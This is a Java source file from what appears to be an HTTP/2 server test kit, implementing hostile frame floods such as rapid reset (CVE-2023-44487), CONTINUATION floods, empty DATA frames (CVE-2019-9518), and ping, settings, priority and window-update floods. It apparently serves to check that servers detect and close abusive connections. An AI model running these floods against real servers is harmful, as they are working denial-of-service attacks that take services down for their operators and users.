package dev.headgate.testkit.http2;

import dev.headgate.testkit.Header;
import io.netty.handler.codec.http2.Http2Error;
import java.io.IOException;
import java.util.List;

/**
 * Hostile traffic on an {@link Http2Client}. Each method sends up to {@code count} repetitions and
 * returns how many were written before the peer ended the connection.
 *
 * <pre>{@code
 * new Http2Flood(client).rapidResets(10_000);
 * assertThat(client.connection().awaitGoAway().error()).isEqualTo(Http2Error.ENHANCE_YOUR_CALM);
 * }</pre>
 */
public final class Http2Flood {
  private final Http2Client client;
  private final Http2Connection connection;

  public Http2Flood(Http2Client client) {
    this.client = client;
    this.connection = client.connection();
  }

  @FunctionalInterface
  private interface Step {
    void send(int index) throws IOException;
  }

  private int repeat(int count, Step step) {
    for (int i = 0; i < count; i++) {
      if (!connection.isOpen()) {
        return i;
      }
      try {
        step.send(i);
      } catch (IOException closed) {
        return i;
      }
    }
    return count;
  }

  /** Opens a stream and resets it at once (CVE-2023-44487). */
  public int rapidResets(int count) {
    byte[] block = Hpack.block(client.request("GET", "/"));
    return repeat(
        count,
        i -> {
          int id = client.reserve().id();
          connection.write(
              Frame.headers(id, block, Frame.END_HEADERS | Frame.END_STREAM),
              Frame.reset(id, Http2Error.CANCEL));
        });
  }

  /** Makes the peer reset streams itself: each gets a window update of zero. */
  public int provokedResets(int count) {
    byte[] block = Hpack.block(client.request("POST", "/"));
    return repeat(
        count,
        i -> {
          int id = client.reserve().id();
          connection.write(Frame.headers(id, block, Frame.END_HEADERS), Frame.windowUpdate(id, 0));
        });
  }

  /** A header block that never ends, each CONTINUATION with a field of {@code bytes}. */
  public int continuations(int count, int bytes) {
    int id = client.reserve().id();
    byte[] field = Hpack.block(List.of(new Header("x-flood", "a".repeat(bytes))));
    return repeat(
        count,
        i ->
            connection.write(
                i == 0
                    ? Frame.headers(id, Hpack.block(client.request("GET", "/")), Frame.END_STREAM)
                    : Frame.continuation(id, field, 0)));
  }

  /** CONTINUATION frames without a byte in them. */
  public int emptyContinuations(int count) {
    int id = client.reserve().id();
    return repeat(
        count,
        i ->
            connection.write(
                i == 0
                    ? Frame.headers(id, Hpack.block(client.request("GET", "/")), Frame.END_STREAM)
                    : Frame.continuation(id, new byte[0], 0)));
  }

  public int pings(int count) {
    return repeat(count, i -> connection.write(Frame.ping(i)));
  }

  public int settings(int count) {
    return repeat(count, i -> connection.write(Frame.settings()));
  }

  /** DATA frames without a byte that do not end their stream (CVE-2019-9518). */
  public int emptyData(int count) {
    int id = client.reserve().id();
    byte[] block = Hpack.block(client.request("POST", "/"));
    return repeat(
        count,
        i ->
            connection.write(
                i == 0
                    ? Frame.headers(id, block, Frame.END_HEADERS)
                    : Frame.data(id, new byte[0], false)));
  }

  /** PRIORITY frames for idle streams. */
  public int priorities(int count) {
    return repeat(
        count, i -> connection.write(Frame.of(Frame.PRIORITY, 0, 2 * i + 1, new byte[5])));
  }

  /** Window updates of one byte each for the connection. */
  public int windowUpdates(int count) {
    return repeat(count, i -> connection.write(Frame.windowUpdate(0, 1)));
  }
}
